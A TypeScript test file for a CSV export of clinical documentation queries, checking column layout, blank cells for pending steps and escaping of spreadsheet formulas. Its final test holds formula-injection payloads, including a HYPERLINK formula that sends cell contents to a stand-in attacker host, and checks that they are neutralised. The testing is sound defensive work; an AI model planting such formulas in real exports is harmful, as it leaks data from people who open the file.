// Queries as a table for a spreadsheet: a line a query, no patient in it, and no cell that would be computed.

import { expect, it } from 'vitest';
import { queryLife } from '../../../lib/queries/query-life.ts';
import { csv } from '../../../lib/reports/csv.ts';
import { queriesCsv } from '../../../lib/reports/queries-csv.ts';
import { buildQuery } from '../../fixtures/queries/build-query.ts';
import { answerOf, day, inTurn, ladder, remind, send, sent, step } from '../queries/life-steps.ts';

const calendar = { zone: 'UTC', days: [1, 2, 3, 4, 5], from: 8, to: 17, holidays: [] };
const table = (...all: Parameters<typeof queriesCsv>[0]) =>
  queriesCsv(all, calendar)
    .split('\r\n')
    .slice(0, -1)
    .map((line) => line.slice(1, -1).split('","'));
const head = [
  ['Encounter', 'Topic', 'Title', 'Reason', 'Format', 'Timing', 'To', 'Asked by', 'For coder', 'State'],
  ['Sent (UTC)', 'Due (UTC)', 'Answered (UTC)', 'Business hours', 'Answer', 'Reminders', 'Escalated to'],
  ['Documentation', 'Codes changed'],
].flat();

it('has a line a query, with what became of it', () => {
  const steps = [
    send,
    remind,
    ladder[0]!,
    step('answer', { at: sent + day, answer: answerOf({ class: 'agreed' }) }),
    step('close', { documentation: 'Addendum, 11 March', codesChanged: true }),
  ];
  const query = buildQuery({ coder: 'P. Raman' });
  const lines = table({ encounter: 'E-1', query, life: queryLife(inTurn(steps)), author: 'Dana Reyes' });
  // Mon 14–17 is 3 hours, Tue 8–14 is 6.
  expect(lines).toEqual([
    head,
    [
      ['E-1', 'aki', 'Renal function clarification', 'indicators-without-diagnosis', 'multiple-choice'],
      ['concurrent', 'A. Rivera, MD', 'Dana Reyes', 'P. Raman', 'closed'],
      ['2026-03-09T14:00', '', '2026-03-10T14:00', '9.0', 'agreed', '1', 'physician-advisor'],
      ['Addendum, 11 March', 'yes'],
    ].flat(),
  ]);
});

it('leaves empty what has not happened', () => {
  const draft = buildQuery({ reason: null, recipient: null });
  const life = queryLife([]);
  expect(table({ encounter: 'E-1', query: draft, life, author: 'Dana Reyes' })[1]).toEqual([
    ...['E-1', 'aki', 'Renal function clarification', '', 'multiple-choice', 'concurrent', '', 'Dana Reyes'],
    ...['', 'draft', '', '', '', '', '', '0', '', '', ''],
  ]);
  const waiting = table({ encounter: 'E-1', query: draft, life: queryLife(inTurn([send])), author: 'D' })[1]!;
  expect(waiting.slice(9, 13)).toEqual(['sent', '2026-03-09T14:00', '2026-03-11T14:00', '']);
  expect(table()).toEqual([head]);
});

it('has no cell that a spreadsheet would compute, and keeps quotes and commas in their cells', () => {
  const title = '=HYPERLINK("https://evil.example?"&A1,"open")';
  const steps = [
    send,
    step('answer', { answer: answerOf() }),
    step('close', { documentation: '@SUM(A1)', codesChanged: false }),
  ];
  const query = buildQuery({ title, coder: '-2+3', recipient: { name: '+1', role: 'attending' } });
  const text = queriesCsv(
    [{ encounter: '\t=1', query, life: queryLife(inTurn(steps)), author: '=1+1' }],
    calendar,
  );
  for (const cell of [
    `"'=HYPERLINK(""https://evil.example?""&A1,""open"")"`,
    `"'-2+3"`,
    `"'+1"`,
    `"'\t=1"`,
    `"'=1+1"`,
    `"'@SUM(A1)"`,
  ])
    expect(text).toContain(cell);
  expect(text).not.toMatch(/(?:^|",)"[=+\-@\t\r]/m);
  expect(csv([['a "b", c', '-', 'x\r\ny']])).toBe(`"a ""b"", c","'-","x\r\ny"\r\n`);
});
